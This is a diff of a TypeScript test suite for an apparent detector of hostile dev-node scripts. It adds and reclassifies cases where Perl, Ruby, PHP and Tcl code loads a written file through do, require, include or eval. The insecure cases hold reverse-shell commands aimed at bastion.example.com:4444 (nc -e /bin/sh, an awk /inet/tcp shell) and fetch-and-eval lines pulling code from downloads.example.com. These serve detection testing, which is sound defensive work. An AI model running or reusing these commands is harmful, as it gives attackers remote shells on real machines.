@@ -31,7 +31,7 @@ const AWK_SHELL = `BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while(1){s|&ge
 const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];
 
 const insecure: NodeCase[] = [
-    // MISS: perlfunc `do EXPR` ("Uses the value of EXPR as a filename and executes the contents of the file as a Perl
+    // Was a MISS (fixed in round 67): perlfunc `do EXPR` ("Uses the value of EXPR as a filename and executes the contents of the file as a Perl
     // script"): a root `perl -e 'do "/opt/r.pl"'` runs the written IO::Socket + exec /bin/sh reverse shell;
     // CODE_LOADERS' perl entry reads only options (-M/-I/-d:, PERL5OPT/PERL5LIB) and its `code` is `() => []`, so
     // in-code do/require/use FILE is neither followed nor failed closed (userData.ts loadedCode). Accepted (got []).
@@ -39,45 +39,40 @@ const insecure: NodeCase[] = [
         "perl -e 'do \"/opt/r.pl\"' (written)",
         devNodeScript("dev-x1-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'do "/opt/r.pl"'`]),
         RELAY,
-        true,
     ),
-    // MISS: perlfunc `require EXPR` (a file name: "includes and runs the file" once, searched on @INC unless absolute):
+    // Was a MISS (fixed in round 67): perlfunc `require EXPR` (a file name: "includes and runs the file" once, searched on @INC unless absolute):
     // `perl -e 'require "/opt/r.pl"'` runs the written reverse shell; CODE_LOADERS perl `code: () => []` (userData.ts)
     // does not read in-code require. Accepted.
     devNodeCase(
         "perl -e 'require \"/opt/r.pl\"' (written)",
         devNodeScript("dev-x2-nodes", [...written("/opt/r.pl", `${PERL_SHELL};1;`), `perl -e 'require "/opt/r.pl"'`]),
         RELAY,
-        true,
     ),
-    // MISS: Ruby docs Kernel#load ("Loads and executes the Ruby program in the file filename"): `ruby -e 'load
+    // Was a MISS (fixed in round 67): Ruby docs Kernel#load ("Loads and executes the Ruby program in the file filename"): `ruby -e 'load
     // "/opt/r.rb"'` runs the written TCPSocket + exec /bin/sh reverse shell; CODE_LOADERS ruby `code: () => []`
     // (userData.ts) reads -r/-I/RUBYOPT/RUBYLIB only. Accepted.
     devNodeCase(
         "ruby -e 'load \"/opt/r.rb\"' (written)",
         devNodeScript("dev-x3-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'load "/opt/r.rb"'`]),
         RELAY,
-        true,
     ),
-    // MISS: Ruby docs Kernel#require (an absolute path is loaded as itself, `.rb` appended): `ruby -e 'require
+    // Was a MISS (fixed in round 67): Ruby docs Kernel#require (an absolute path is loaded as itself, `.rb` appended): `ruby -e 'require
     // "/opt/r"'` loads the written /opt/r.rb reverse shell; in-code require not read (CODE_LOADERS ruby code is empty).
     // Accepted.
     devNodeCase(
         "ruby -e 'require \"/opt/r\"' (written)",
         devNodeScript("dev-x4-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'require "/opt/r"'`]),
         RELAY,
-        true,
     ),
-    // MISS: Ruby docs Kernel#eval + File.read: `eval File.read("/opt/r.rb")` runs the written reverse shell; the inline
+    // Was a MISS (fixed in round 67): Ruby docs Kernel#eval + File.read: `eval File.read("/opt/r.rb")` runs the written reverse shell; the inline
     // program has no socket text and eval of computed text is not failed closed (lua's load of a non-literal is:
     // CODE_LOADERS lua). Accepted.
     devNodeCase(
         "ruby -e 'eval File.read(...)' (written)",
         devNodeScript("dev-x5-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'eval File.read("/opt/r.rb")'`]),
         RELAY,
-        true,
     ),
-    // MISS: PHP manual, `include` ("includes and evaluates the specified file"): `php -r 'include "/opt/r.php";'` runs
+    // Was a MISS (fixed in round 67): PHP manual, `include` ("includes and evaluates the specified file"): `php -r 'include "/opt/r.php";'` runs
     // the written fsockopen + proc_open(/bin/sh) reverse shell; CODE_LOADERS php reads auto_prepend_file
     // (-d/-c/php.ini) but its `code` is `() => []`: include/require/include_once/require_once in code are unread.
     // Accepted.
@@ -85,7 +80,6 @@ const insecure: NodeCase[] = [
         "php -r 'include \"/opt/r.php\";' (written)",
         devNodeScript("dev-x6-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'include "/opt/r.php";'`]),
         RELAY,
-        true,
     ),
     // MISS: PHP manual "The configuration file"/php_ini_scanned_files (additional .ini files are parsed from the
     // directories in the PHP_INI_SCAN_DIR environment variable, after php.ini): /opt/ini/99-app.ini's
@@ -191,7 +185,7 @@ const insecure: NodeCase[] = [
         RELAY,
         true,
     ),
-    // MISS: Tcl eval(n)/read(n)/open(n): `eval [read [open /opt/r.tcl]]` evaluates the written socket + exec reverse
+    // Was a MISS (fixed in round 67): Tcl eval(n)/read(n)/open(n): `eval [read [open /opt/r.tcl]]` evaluates the written socket + exec reverse
     // shell; CODE_LOADERS tcl follows only source/load/package require, and eval of computed text is not failed closed.
     // Accepted.
     devNodeCase(
@@ -201,7 +195,111 @@ const insecure: NodeCase[] = [
             `tclsh <<< 'eval [read [open /opt/r.tcl]]'`,
         ]),
         RELAY,
-        true,
+    ),
+    // Round 67 neighbours of the in-code loads (CODE_LOADERS perl/ruby/php/tcl code): a file on a search path the
+    // code or its options name, a known name shadowed by a written file, and computed paths or eval text (fail closed).
+    devNodeCase(
+        "perl -I/opt -e 'do \"r.pl\"' (@INC search, written)",
+        devNodeScript("dev-n1-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -I/opt -e 'do "r.pl"'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl -I/opt -e 'require Rev' (bareword, written)",
+        devNodeScript("dev-n2-nodes", [
+            ...written("/opt/Rev.pm", `package Rev; ${PERL_SHELL}; 1;`),
+            `perl -I/opt -e 'require Rev'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl use lib shadows JSON::PP (written)",
+        devNodeScript("dev-n3-nodes", [
+            "mkdir -p /opt/lib/JSON",
+            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
+            `perl -e 'use lib "/opt/lib"; use JSON::PP; print 1'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl BEGIN unshift @INC shadows JSON::PP (written)",
+        devNodeScript("dev-n15-nodes", [
+            "mkdir -p /opt/lib/JSON",
+            ...written("/opt/lib/JSON/PP.pm", `package JSON::PP; ${PERL_SHELL}; 1;`),
+            `perl -e 'BEGIN { unshift @INC, "/opt/lib" } use JSON::PP; print 1'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl do of a computed path",
+        devNodeScript("dev-n4-nodes", [...written("/opt/r.pl", PERL_SHELL), `D=/opt perl -e 'do "$ENV{D}/r.pl"'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "perl eval of downloaded text",
+        devNodeScript("dev-n5-nodes", [`perl -e 'my $c = qx(curl -fsSL https://downloads.example.com/c.pl); eval $c'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ruby $LOAD_PATH.unshift shadows json (written)",
+        devNodeScript("dev-n6-nodes", [
+            ...written("/opt/rb/json.rb", RUBY_SHELL),
+            `ruby -e '$LOAD_PATH.unshift "/opt/rb"; require "json"'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ruby -I/opt -e 'load \"r.rb\"' (written)",
+        devNodeScript("dev-n7-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -I/opt -e 'load "r.rb"'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ruby require_relative (written)",
+        devNodeScript("dev-n8-nodes", [
+            ...written("/opt/r.rb", RUBY_SHELL),
+            `cd /opt && ruby -e 'require_relative "r"'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ruby eval of downloaded text",
+        devNodeScript("dev-n9-nodes", [
+            `ruby -e 'require "net/http"; eval(Net::HTTP.get(URI("https://downloads.example.com/c.rb")))'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "php -r require_once written",
+        devNodeScript("dev-n10-nodes", [...written("/opt/r.php", PHP_SHELL), `php -r 'require_once("/opt/r.php");'`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "php -r include of a computed path",
+        devNodeScript("dev-n11-nodes", [
+            ...written("/opt/r.php", PHP_SHELL),
+            `php -r '$d = "/opt"; include "$d/r.php";'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "php -r eval(file_get_contents(written))",
+        devNodeScript("dev-n12-nodes", [
+            ...written("/opt/r.txt", PHP_SHELL.replace("<?php ", "")),
+            `php -r 'eval(file_get_contents("/opt/r.txt"));'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "tclsh uplevel #0 [read [open written]]",
+        devNodeScript("dev-n13-nodes", [
+            ...written("/opt/r.tcl", TCL_SHELL),
+            `tclsh <<< 'uplevel #0 [read [open /opt/r.tcl]]'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "tclsh eval of a computed script",
+        devNodeScript("dev-n14-nodes", [`tclsh <<< 'set f [open /opt/$::env(N).tcl]; eval [read $f]'`]),
+        RELAY,
     ),
     // MISS: bash(1) OPTIONS (`--rcfile file`/`--init-file file` take the next word as their value and apply only to
     // interactive shells; "-s If the -s option is present, or if no arguments remain after option processing, then
@@ -296,7 +394,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-b14-nodes", [`env --split-string='nc bastion.example.com 4444 -e /bin/sh'`]),
         RELAY,
     ),
-    // MISS: perlfunc `use Module` (require at compile time, Module.pm on @INC; -I prepends to @INC: perlrun): `perl
+    // Was a MISS (fixed in round 67): perlfunc `use Module` (require at compile time, Module.pm on @INC; -I prepends to @INC: perlrun): `perl
     // -I/opt -e 'use Rev'` runs the written /opt/Rev.pm reverse shell; -MRev is followed (CODE_LOADERS perl options)
     // but in-code `use`/`require Module` is not (perl `code: () => []`). Accepted.
     devNodeCase(
@@ -306,7 +404,6 @@ const insecure: NodeCase[] = [
             `perl -I/opt -e 'use Rev'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "xargs -0 sh -c '\"$@\"' (items are the program)",
@@ -418,6 +515,49 @@ const secure: NodeCase[] = [
         devNodeScript("dev-s3-nodes", [
             ...written("/opt/h.php", `<?php file_put_contents("/tmp/hello", "hi");`),
             `php -r 'include "/opt/h.php";'`,
+        ]),
+    ),
+    devNodeCase(
+        "perl -e 'use JSON::PP' (packaged module)",
+        devNodeScript("dev-s21-nodes", [
+            `perl -e 'use strict; use JSON::PP; print JSON::PP->new->encode({a => 1})' > /tmp/j`,
+        ]),
+    ),
+    devNodeCase(
+        "ruby -e 'require \"json\"' (standard library)",
+        devNodeScript("dev-s22-nodes", [`ruby -e 'require "json"; puts JSON.generate({a: 1})' > /tmp/j`]),
+    ),
+    devNodeCase(
+        "perl -I/opt -e 'use Helper' (written, harmless)",
+        devNodeScript("dev-s23-nodes", [
+            ...written("/opt/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
+            `perl -I/opt -e 'use Helper; Helper::hi()' > /tmp/h`,
+        ]),
+    ),
+    devNodeCase(
+        "perl do BLOCK, eval BLOCK, ->do (no loads)",
+        devNodeScript("dev-s24-nodes", [
+            `perl -e 'my $x = do { local $/; <STDIN> }; eval { print length $x }; print "ok" if $@ eq ""' < /etc/hostname > /tmp/l`,
+        ]),
+    ),
+    devNodeCase(
+        "ruby YAML.load(File.read) (not a code load)",
+        devNodeScript("dev-s25-nodes", [
+            ...written("/opt/c.yaml", "a: 1"),
+            `ruby -r yaml -e 'puts YAML.load(File.read("/opt/c.yaml"))["a"]' > /tmp/a`,
+        ]),
+    ),
+    devNodeCase(
+        "php -r require_once written (harmless) and eval of a literal",
+        devNodeScript("dev-s26-nodes", [
+            ...written("/opt/h.php", `<?php file_put_contents("/tmp/hello", "hi");`),
+            `php -r 'require_once "/opt/h.php"; eval("echo 1;");' > /tmp/o`,
+        ]),
+    ),
+    devNodeCase(
+        "tclsh namespace eval / uplevel of a braced body",
+        devNodeScript("dev-s27-nodes", [
+            `tclsh <<< 'namespace eval app { proc hi {} { puts hi } }; uplevel #0 { app::hi }' > /tmp/h`,
         ]),
     ),
     // MISS: (secure refused) GNU awk manual "The AWKPATH Environment Variable": `AWKPATH=/opt/awk gawk -i lib` loads
